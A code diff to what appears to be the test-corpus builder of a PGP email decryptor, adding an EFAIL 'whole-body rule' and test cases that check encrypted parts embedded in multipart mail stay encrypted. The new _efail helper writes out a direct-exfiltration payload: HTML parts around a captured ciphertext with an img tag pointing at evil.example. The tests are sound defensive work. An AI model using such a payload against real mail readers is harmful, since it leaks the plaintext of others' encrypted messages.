@@ -35,6 +35,13 @@ and laid out after what the mail clients write:
       "[...]" and an outer Message-ID other than the inner one.
 
 What "expected" means (the decryptor's contract):
+  * the whole-body rule (EFAIL): a multipart/encrypted or an armored text
+    block is decrypted only when it is its message's whole body (the
+    mail's, or that of a message/rfc822 that is itself the whole body);
+    inside any multipart it is left as it is and counted as embedded
+    (X-Pgpdecd-Status "embedded=N"; outcome "embedded" when nothing else
+    was encrypted, "partly-decrypted" when other pieces were decrypted);
+    encrypted attachments are decrypted wherever they are;
   * a multipart/encrypted is replaced by the decrypted entity; at the top its
     Content-* headers become the message's;
   * an armored block in a text part is replaced in place by its plaintext:
@@ -152,11 +159,12 @@ Node = Union[Leaf, Multi, Rfc822]
 
 @dataclass
 class Expected:
-    outcome: str                   # decrypted partly-decrypted not-encrypted no-key failed
+    outcome: str                   # decrypted partly-decrypted not-encrypted no-key failed embedded
     pieces: int = 0
     decrypted: int = 0
     no_key: int = 0
     failed: int = 0
+    embedded: int = 0              # left encrypted: not its message's whole body
     status: Optional[str] = None   # INTEGRITY, MALFORMED ... of the first failed piece, else NO_KEY/NO_PASSWORD
     keys: tuple = ()
     integrity: Optional[str] = None  # "mdc", "aead", "mdc, aead"
@@ -170,6 +178,8 @@ class Expected:
             return [("X-Pgpdecd-Status", "not-encrypted")]
         v = (f"{self.outcome}; pieces={self.pieces}; decrypted={self.decrypted}; "
              f"no-key={self.no_key}; failed={self.failed}")
+        if self.embedded:
+            v += f"; embedded={self.embedded}"
         if self.status:
             v += f"; status={self.status}"
         h = [("X-Pgpdecd-Status", v)]
@@ -195,6 +205,7 @@ class Piece:
     ciphertext: bytes
     plaintext: Optional[bytes]
     error: Optional[str] = None
+    embedded: bool = False     # not its message's whole body: left encrypted (set by _mk)
 
 
 @dataclass
@@ -417,40 +428,41 @@ def protected_headers(entity) -> dict:
 ENC_SUFFIXES = (".pgp", ".gpg", ".asc")
 
 
-def find_pieces(raw: bytes):
+def find_pieces(raw: bytes, places=False):
     """[(kind, ciphertext bytes)] in document order: the octet-stream of
     each multipart/encrypted, each armored block of each text part,
-    each .pgp/.gpg/.asc attachment."""
+    each .pgp/.gpg/.asc attachment.  places=True: [(kind, ciphertext,
+    whole)], whole telling whether the piece is its message's whole body
+    (the whole-body rule, below)."""
     out = []
 
-    def walk(p):
+    def walk(p, whole):
         ct = p.get_content_type()
         if ct == "multipart/encrypted":
             kids = list(p.iter_parts())
-            out.append(("pgp-mime", kids[1].get_payload(decode=True)))
+            out.append(("pgp-mime", kids[1].get_payload(decode=True), whole))
             return
         if ct == "multipart/signed":
             return
         if ct == "message/rfc822":
-            walk(p.get_payload()[0])
+            walk(p.get_payload()[0], whole)
             return
         if p.is_multipart():
             for c in p.iter_parts():
-                walk(c)
+                walk(c, False)
             return
         fn = p.get_filename() or ""
         if fn.lower().endswith(ENC_SUFFIXES) and ct != "application/pgp-signature":
-            out.append(("attachment", p.get_payload(decode=True)))
+            out.append(("attachment", p.get_payload(decode=True), True))
             return
         if p.get_content_maintype() == "text":
             cs = p.get_content_charset() or "us-ascii"
             text = (p.get_payload(decode=True) or b"").decode(cs)
             for m in ARMOR_RE.finditer(text):
-                out.append(("inline", m.group(0).encode("ascii")))
+                out.append(("inline", m.group(0).encode("ascii"), whole))
 
-    walk(parse(raw))
-    return out
-
+    walk(parse(raw), True)
+    return out if places else [(k, c) for k, c, _ in out]
 
 
 EXT_TYPES = {".pdf": ("application/pdf",), ".csv": ("text/csv", "text/plain"),
@@ -464,16 +476,20 @@ def _decrypted_name(fn):
 def expected_body(raw: bytes, plain_of: dict):
     """The body tree a correct decryptor delivers for raw, given the
     plaintext of each ciphertext it can decrypt (plain_of: ciphertext ->
-    plaintext; a ciphertext not in it stays as it is).  Returns (tree,
-    protected header fields of a top-level decrypted entity)."""
+    plaintext; a ciphertext not in it stays as it is).  The whole-body
+    rule: a multipart/encrypted or inline block is decrypted only when it
+    is its message's whole body (the mail's, or a message/rfc822's that is
+    itself the whole body); inside any multipart it stays as it is.
+    Returns (tree, protected header fields of a top-level decrypted
+    entity)."""
     prot = {}
 
-    def walk(p, top=False):
+    def walk(p, top=False, whole=True):
         nonlocal prot
         ct = p.get_content_type()
         if ct == "multipart/encrypted":
             kids = list(p.iter_parts())
-            plain = plain_of.get(kids[1].get_payload(decode=True))
+            plain = plain_of.get(kids[1].get_payload(decode=True)) if whole else None
             if plain is None:
                 return tree_of(p, raw=raw)
             ent = parse(plain)
@@ -483,11 +499,11 @@ def expected_body(raw: bytes, plain_of: dict):
         if ct == "message/rfc822":
             inner = p.get_payload()[0]
             hdrs = {k: str(v) for k, v in inner.items() if not k.lower().startswith("content-")}
-            return Rfc822(hdrs, walk(inner))
+            return Rfc822(hdrs, walk(inner, whole=whole))
         if ct == "multipart/signed":
             return tree_of(p, raw=raw)
         if p.is_multipart():
-            return Multi(ct, [walk(c) for c in p.iter_parts()])
+            return Multi(ct, [walk(c, whole=False) for c in p.iter_parts()])
         fn = p.get_filename()
         data = p.get_payload(decode=True) or b""
         if fn and fn.lower().endswith(ENC_SUFFIXES) and data in plain_of:
@@ -496,7 +512,7 @@ def expected_body(raw: bytes, plain_of: dict):
             return Leaf(EXT_TYPES.get(ext, ()) + ("application/octet-stream",), data=plain_of[data],
                         filename=name, decrypted=True)
         node = tree_of(p, raw=raw)
-        if node.text is not None:
+        if node.text is not None and whole:
             hit = []
 
             def sub(m):
@@ -506,7 +522,8 @@ def expected_body(raw: bytes, plain_of: dict):
                 hit.append(1)
                 return pl.decode(node.charset)
             node.text = ARMOR_RE.sub(sub, node.text)
-            node.decrypted = bool(hit)
+            # "decrypted": no armor may remain (a foreign key's block does)
+            node.decrypted = bool(hit) and not ARMOR_RE.search(node.text)
         return node
 
     return walk(parse(raw), top=True), prot
@@ -588,13 +605,16 @@ class Corpus:
         """A Case for raw: pieces are what was encrypted, in document order
         (plaintext None when the test key cannot or must not decrypt it);
         their ciphertexts are replaced by what find_pieces() extracts."""
-        found = find_pieces(raw)
+        found = find_pieces(raw, places=True)
         if len(found) != len(pieces):
             raise AssertionError(f"{name}: {len(found)} pieces found, {len(pieces)} built")
-        for (kind, c), p in zip(found, pieces):
+        for (kind, c, whole), p in zip(found, pieces):
             if kind != p.kind or lf(c).strip() != lf(p.ciphertext).strip():
                 raise AssertionError(f"{name}: piece {p.kind} not found as built")
             p.ciphertext = c
+            p.embedded = not whole
+        embedded = sum(p.embedded for p in pieces)
+        all_pieces, pieces = pieces, [p for p in pieces if not p.embedded]
         plain_of = {p.ciphertext: p.plaintext for p in pieces if p.plaintext is not None}
         body, prot = expected_body(raw, plain_of)
         dec = sum(p.plaintext is not None for p in pieces)
@@ -608,9 +628,9 @@ class Corpus:
             status = next(({"no-key": "NO_KEY", "password": "NO_PASSWORD"}[p.error]
                            for p in pieces if p.plaintext is None), None)
         if not pieces:
-            outcome = "not-encrypted"
+            outcome = "embedded" if embedded else "not-encrypted"
         elif dec == len(pieces):
-            outcome = "decrypted"
+            outcome = "partly-decrypted" if embedded else "decrypted"
         elif dec:
             outcome = "partly-decrypted"
         elif failed:
@@ -618,10 +638,10 @@ class Corpus:
         else:
             outcome = "no-key"
         exp = Expected(outcome, pieces=len(pieces), decrypted=dec, no_key=nokey, failed=failed,
-                       status=status, keys=(KEY_FPR,) if dec else (),
+                       embedded=embedded, status=status, keys=(KEY_FPR,) if dec else (),
                        integrity="mdc" if dec else None, body=body, unchanged=not dec,
                        protected=prot)
-        return Case(name, raw, exp, pieces, layout)
+        return Case(name, raw, exp, all_pieces, layout)
 
     # -- building blocks
 
@@ -921,7 +941,8 @@ class Corpus:
         c = self._mk("inline-and-attachment", raw,
                      [Piece("inline", arm, secret.encode()), Piece("attachment", pdf_ct, pdf)],
                      "multipart/mixed: inline block in text/plain next to report.pdf.pgp")
-        assert c.expected.body.children[0].text == f"Before.\n\n{secret}\nAfter.\n"
+        # the whole-body rule: the text is one part of several, left encrypted
+        assert ARMOR_BEGIN in c.expected.body.children[0].text and c.expected.embedded == 1
         return c
 
     def nested_rfc822(self):
@@ -978,6 +999,14 @@ class Corpus:
                         "PGP/MIME for a foreign key only")
 
     def partly(self):
+        mine, theirs = b"For the gateway.\n", b"For Alice only.\n"
+        a1, a2 = self.encrypt(mine), self.encrypt(theirs, to=[self.alice_fpr])
+        raw = self.headers(subject="Partly") + \
+            b"Content-Type: text/plain; charset=us-ascii\n\nFirst:\n\n" + a1 + b"\nSecond:\n\n" + a2
+        return self._mk("partly", raw, [Piece("inline", a1, mine), Piece("inline", a2, None, "no-key")],
+                        "one text/plain body, two blocks: one for the test key, one for a foreign key")
+
+    def partly_mixed(self):
         b = self.boundary("mix")
         mine, theirs = b"For the gateway.\n", b"For Alice only.\n"
         a1, a2 = self.encrypt(mine), self.encrypt(theirs, to=[self.alice_fpr])
@@ -986,8 +1015,40 @@ class Corpus:
             f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\n".encode() + a1 + \
             f"\n--{b}\nContent-Type: text/plain; charset=us-ascii\n\n".encode() + a2 + \
             f"\n--{b}--\n".encode()
-        return self._mk("partly", raw, [Piece("inline", a1, mine), Piece("inline", a2, None, "no-key")],
-                        "two inline parts: one for the test key, one for a foreign key")
+        c = self._mk("partly-mixed", raw, [Piece("inline", a1, mine), Piece("inline", a2, None, "no-key")],
+                     "two text/plain parts with a block each: neither is the whole body, both left")
+        assert c.expected.outcome == "embedded" and c.expected.embedded == 2
+        return c
+
+    # -- EFAIL direct exfiltration: a captured ciphertext mailed to its
+    # recipient between two HTML parts of the sender's; a reader that joins
+    # the parts would send the plaintext to evil.example.  Left encrypted.
+
+    EVIL_OPEN = '<html><body><img src="http://evil.example/x?'
+    EVIL_CLOSE = '"></body></html>'
+
+    def _efail(self, name, middle: bytes, pieces, layout):
+        b = self.boundary("efail")
+        raw = self.headers(subject="Invoice") + \
+            f'Content-Type: multipart/mixed; boundary="{b}"\n\n'.encode() + \
+            f"--{b}\nContent-Type: text/html\n\n{self.EVIL_OPEN}\n--{b}\n".encode() + middle + \
+            f"\n--{b}\nContent-Type: text/html\n\n{self.EVIL_CLOSE}\n--{b}--\n".encode()
+        c = self._mk(name, raw, pieces, layout)
+        assert c.expected.outcome == "embedded" and c.expected.unchanged
+        return c
+
+    def efail_pgp_mime(self):
+        inner = b"Content-Type: text/plain\n\nThe board meets on Friday.\n"
+        head, body, ct = self.pgp_mime(inner)
+        return self._efail("efail-pgp-mime", head + b"\n" + body, [Piece("pgp-mime", ct, inner)],
+                           "EFAIL: a PGP/MIME part between two text/html parts")
+
+    def efail_inline(self):
+        p = b"The board meets on Friday.\n"
+        arm = self.encrypt(p)
+        return self._efail("efail-inline", b"Content-Type: text/plain\n\n" + arm,
+                           [Piece("inline", arm, p)],
+                           "EFAIL: an inline block in a text/plain part between two text/html parts")
 
     def password(self):
         arm = self.symmetric(b"password protected\n")
@@ -1069,7 +1130,8 @@ class Corpus:
             cs.append(tb_lf)
             cs += [self.attachments(), self.inline_with_attachment(), self.nested_rfc822(),
                    self.nested_subpart(), self.inline_sign_encrypt(), self.foreign_key(),
-                   self.foreign_key_pgp_mime(), self.partly(), self.password(), self.tampered(),
+                   self.foreign_key_pgp_mime(), self.partly(), self.partly_mixed(),
+                   self.efail_pgp_mime(), self.efail_inline(), self.password(), self.tampered(),
                    self.tampered_pgp_mime(), self.garbage(), self.plain(), self.forged(),
                    self.forged_plain()]
             names = [c.name for c in cs]
